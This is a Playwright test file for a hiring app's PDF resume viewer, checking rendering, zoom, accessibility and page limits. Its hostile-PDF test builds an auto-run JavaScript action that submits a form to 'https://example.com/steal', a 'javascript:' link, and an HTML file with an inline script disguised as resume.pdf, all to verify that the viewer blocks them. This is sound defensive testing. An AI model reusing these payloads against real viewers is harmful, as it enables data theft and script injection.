import crypto from 'node:crypto'
import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib'
import { seedApplication } from '#tests/fixtures/applications.ts'
import { openTestDatabase } from '#tests/fixtures/career.ts'
import { signInAs } from '#tests/fixtures/staff.ts'
import type { Page } from '@playwright/test'
import { DESKTOP, PHONE, expect, expectNoAxeViolations, screenshot, test } from './fixtures.ts'

// A recruiter reads a PDF resume on a phone, whose Chrome has no PDF viewer: the page draws the file's first pages
// itself, each named for a screen reader; a hostile file runs nothing, hangs nothing and is still recorded.

/** Replaces the application's resume by these bytes, stored as a PDF whatever they are (as an older upload might be). */
function replaceResume(applicationId: number, bytes: Uint8Array, name = 'resume.pdf') {
	const db = openTestDatabase()
	try {
		const id = crypto.randomBytes(16).toString('hex')
		db.prepare(
			`insert into files (id, kind, original_name, media_type, byte_size, sha256, bytes, created_at)
			 values (?, 'resume', ?, 'application/pdf', ?, ?, ?, ?)`,
		).run(
			id,
			name,
			bytes.length,
			crypto.createHash('sha256').update(bytes).digest('hex'),
			Buffer.from(bytes),
			new Date().toISOString(),
		)
		db.prepare('update applications set resume_file_id = ? where id = ?').run(id, applicationId)
	} finally {
		db.close()
	}
}

function openings(applicationId: number) {
	const db = openTestDatabase()
	try {
		return db
			.prepare(`select count(*) as n from audit_log where subject = ? and action = 'application.resume-opened'`)
			.get(`application ${applicationId}`) as { n: number }
	} finally {
		db.close()
	}
}

function closeJob(jobId: number) {
	const db = openTestDatabase()
	try {
		db.prepare('update jobs set published = 0 where id = ?').run(jobId)
	} finally {
		db.close()
	}
}

/** How many of a drawn page's pixels are not white: a drawn page has text on it. */
function inkedPixels(page: Page, name: string) {
	return page.getByRole('img', { name }).evaluate((picture: HTMLImageElement | HTMLCanvasElement) => {
		const width = picture instanceof HTMLImageElement ? picture.naturalWidth : picture.width
		const height = picture instanceof HTMLImageElement ? picture.naturalHeight : picture.height
		const canvas = document.createElement('canvas')
		canvas.width = width
		canvas.height = height
		canvas.getContext('2d')!.drawImage(picture, 0, 0)
		const { data } = canvas.getContext('2d')!.getImageData(0, 0, width, height)
		let inked = 0
		for (let i = 0; i < data.length; i += 4) if (data[i]! < 200 || data[i + 1]! < 200 || data[i + 2]! < 200) inked++
		return inked
	})
}

/** A PDF of `count` pages, each saying its number; with a script, a link and a form field when `hostile`. */
async function manyPages(count: number, { hostile = false, size = [595, 842] as [number, number] } = {}) {
	const pdf = await PDFDocument.create()
	const font = await pdf.embedFont(StandardFonts.Helvetica)
	for (let n = 1; n <= count; n++) {
		const page = pdf.addPage(size)
		page.drawText(`Ravi Kumar, page ${n}`, { x: 40, y: size[1] - 80, size: 28, font })
	}
	if (hostile) {
		const script = pdf.context.obj({
			Type: 'Action',
			S: 'JavaScript',
			JS: PDFString.of("app.alert('opened'); this.submitForm('https://example.com/steal')"),
		})
		pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(script))
		const form = pdf.getForm()
		form.createTextField('notes').addToPage(pdf.getPage(0), { x: 40, y: 600, width: 300, height: 40 })
		const link = pdf.context.obj({
			Type: 'Annot',
			Subtype: 'Link',
			Rect: [40, 500, 400, 540],
			A: { S: 'URI', URI: PDFString.of('javascript:window.pwned=1') },
		})
		pdf.getPage(0).node.addAnnot(pdf.context.register(link))
	}
	return pdf.save()
}

for (const viewport of [PHONE, DESKTOP]) {
	test(`a recruiter reads a PDF resume drawn in the page, without a download (${viewport.width} px)`, async ({
		page,
	}) => {
		const application = seedApplication({ name: `Ravi Kumar ${crypto.randomBytes(3).toString('hex')}` })
		try {
			replaceResume(application.id, await manyPages(3))
			await page.setViewportSize(viewport)
			const downloads: string[] = []
			page.on('download', (download) => downloads.push(download.url()))
			const workers: string[] = []
			page.on('worker', (worker) => workers.push(new URL(worker.url()).pathname))
			const refusals: string[] = []
			page.on('console', (message) => {
				if (message.type() === 'error') refusals.push(message.text())
			})
			await signInAs(page, 'hr')
			await page.goto(`/admin/applications/${application.id}`)
			await page.getByRole('link', { name: 'Read the resume' }).click()
			await expect(page.getByRole('heading', { level: 1, name: `Resume of ${application.name}` })).toBeVisible()

			const first = page.getByRole('img', { name: `Page 1 of 3 of ${application.name}'s resume` })
			await expect(first).toBeVisible()
			await expect(page.getByRole('img', { name: `Page 3 of 3 of ${application.name}'s resume` })).toBeVisible()
			await expect(page.getByRole('status')).toHaveText('3 pages.')
			await expect.poll(() => inkedPixels(page, `Page 1 of 3 of ${application.name}'s resume`)).toBeGreaterThan(200)
			// The page fits the screen's width; no sideways scrolling of the page itself.
			// pdf.js read the file in its worker, from our own address, and our policy refused nothing.
			expect(workers).toContainEqual(expect.stringMatching(/^\/assets\/pdf\.worker\.min-[\w-]+\.mjs$/))
			expect(refusals).toEqual([])
			const box = (await first.boundingBox())!
			expect(box.width).toBeLessThanOrEqual(Math.min(viewport.width, 900))
			expect(box.width).toBeGreaterThan(Math.min(viewport.width, 900) / 2)
			expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(viewport.width)
			await screenshot(page, `admin-pdf-reader-${viewport.width}`)
			await expectNoAxeViolations(page)

			// Zoom in and out from the keyboard (Zoom out is off at 100 %): the page grows, its box scrolls sideways.
			const zoomIn = page.getByRole('button', { name: 'Zoom in' })
			await page.getByRole('link', { name: 'Back to the application' }).focus()
			await page.keyboard.press('Tab')
			await expect(zoomIn).toBeFocused()
			await page.keyboard.press('Enter')
			await expect(page.getByText('150 %')).toBeVisible()
			expect((await first.boundingBox())!.width).toBeGreaterThan(box.width * 1.3)
			await page.keyboard.press('Tab')
			await expect(page.getByRole('region', { name: `Pages of ${application.name}'s resume` })).toBeFocused()
			await page.getByRole('button', { name: 'Zoom out' }).press('Enter')
			await expect(page.getByText('100 %')).toBeVisible()

			expect(downloads).toEqual([])
			// One opening, one entry, as a download's.
			await expect.poll(() => openings(application.id).n).toBe(1)
		} finally {
			closeJob(application.job.id)
		}
	})
}

test('a long PDF shows its first 20 pages, with the whole file to download', async ({ page }) => {
	const application = seedApplication({ name: `Ravi Kumar ${crypto.randomBytes(3).toString('hex')}` })
	try {
		replaceResume(application.id, await manyPages(45))
		await page.setViewportSize(PHONE)
		await signInAs(page, 'hr')
		// Every word the status line says, as a screen reader would hear it.
		await page.addInitScript(() => {
			const said: string[] = ((window as unknown as { said: string[] }).said = [])
			new MutationObserver(() => {
				const text = document.querySelector('[role="status"]')?.textContent
				if (text && said.at(-1) !== text) said.push(text)
			}).observe(document, { subtree: true, childList: true, characterData: true })
		})
		await page.goto(`/admin/applications/${application.id}/view/resume`)
		await expect(page.getByRole('status')).toHaveText('45 pages.', { timeout: 30_000 })
		const said = await page.evaluate(() => (window as unknown as { said: string[] }).said)
		expect(said.some((text) => /^Loading page \d+ of 20…$/.test(text))).toBe(true)
		await expect(page.getByRole('img', { name: `Page 20 of 45 of ${application.name}'s resume` })).toBeVisible()
		await expect(page.getByRole('img', { name: /^Page 21 of 45/ })).toHaveCount(0)
		// Each drawn page is kept as a compressed picture: no canvas (four bytes a pixel) stays on the page.
		await expect(page.locator('.pdf-reader-pages img.pdf-page')).toHaveCount(20)
		await expect(page.locator('.pdf-reader-pages canvas')).toHaveCount(0)
		const kept = await page.locator('.pdf-reader-pages img.pdf-page').evaluateAll((pictures) => ({
			pictureBytes: (pictures as HTMLImageElement[]).reduce((sum, picture) => sum + picture.src.length, 0),
			canvasBytes: (pictures as HTMLImageElement[]).reduce(
				(sum, picture) => sum + picture.naturalWidth * picture.naturalHeight * 4,
				0,
			),
		}))
		expect(kept.pictureBytes).toBeLessThan(kept.canvasBytes / 10)
		await expect(page.getByText('The file has 45 pages: the first 20 are shown.')).toBeVisible()
		await page.setViewportSize({ width: PHONE.width, height: 900 })
		await page.screenshot({ path: 'tests/.output/screenshots/admin-pdf-reader-long-375.png' })
		await expect(page.getByRole('link', { name: 'Download the whole file' })).toHaveAttribute(
			'href',
			`/admin/applications/${application.id}/resume`,
		)
	} finally {
		closeJob(application.job.id)
	}
})

test('a hostile PDF runs no script, follows no link, and a file that is not a PDF is offered as a download', async ({
	page,
}) => {
	const application = seedApplication({ name: `Ravi Kumar ${crypto.randomBytes(3).toString('hex')}` })
	try {
		await page.setViewportSize(PHONE)
		const dialogs: string[] = []
		page.on('dialog', (dialog) => {
			dialogs.push(dialog.message())
			void dialog.dismiss()
		})
		const outside: string[] = []
		page.on('request', (request) => {
			if (!request.url().startsWith(process.env.E2E_BASE_URL!)) outside.push(request.url())
		})
		await signInAs(page, 'hr')

		// A script that runs when opened, a form that posts elsewhere, a javascript: link, and a page 5 m square.
		replaceResume(application.id, await manyPages(2, { hostile: true, size: [14_173, 14_173] }))
		await page.goto(`/admin/applications/${application.id}/view/resume`)
		const first = page.getByRole('img', { name: `Page 1 of 2 of ${application.name}'s resume` })
		await expect(page.getByRole('status')).toHaveText('2 pages.', { timeout: 30_000 })
		const pixels = await first.evaluate((picture: HTMLImageElement) => picture.naturalWidth * picture.naturalHeight)
		expect(pixels).toBeLessThanOrEqual(1_500_001)
		// The page is a picture: nothing in it can be clicked or typed into.
		await first.click()
		await expect(page.locator('.pdf-reader-pages a, .pdf-reader-pages input, .pdf-reader-pages iframe')).toHaveCount(0)
		expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined()
		expect(page.url()).toContain(`/admin/applications/${application.id}/view/resume`)

		// A web page with a script, named resume.pdf: not drawn, not run, offered as a download.
		replaceResume(
			application.id,
			new TextEncoder().encode('<html><script>window.pwned = 1; alert("x")</script>Not a PDF</html>'),
		)
		await page.goto(`/admin/applications/${application.id}/view/resume`)
		await expect(page.getByRole('status')).toHaveText(/This file cannot be read as a PDF/)
		await expect(page.getByRole('img', { name: /^Page 1/ })).toHaveCount(0)
		await expect(page.getByRole('link', { name: 'Download the resume' })).toBeVisible()
		await screenshot(page, 'admin-pdf-reader-not-a-pdf-375')
		expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined()

		expect(dialogs).toEqual([])
		expect(outside).toEqual([])
		// Both openings are recorded, the unreadable one too.
		await expect.poll(() => openings(application.id).n).toBe(2)
	} finally {
		closeJob(application.job.id)
	}
})

test('without JavaScript the resume is still a download, and a frame where the browser shows PDFs', async ({
	browser,
}) => {
	const context = await browser.newContext({ javaScriptEnabled: false })
	const page = await context.newPage()
	const application = seedApplication()
	try {
		await signInAs(page, 'hr')
		await page.goto(`/admin/applications/${application.id}/view/resume`)
		await expect(page.getByRole('link', { name: 'Download the resume' })).toHaveAttribute(
			'href',
			`/admin/applications/${application.id}/resume`,
		)
		await expect(page.getByTitle(`Resume of ${application.name} (resume.pdf)`)).toHaveAttribute(
			'src',
			`/admin/applications/${application.id}/resume?view=inline`,
		)
		await expect(page.getByRole('button', { name: 'Zoom in' })).toHaveCount(0)
	} finally {
		closeJob(application.job.id)
		await context.close()
	}
})
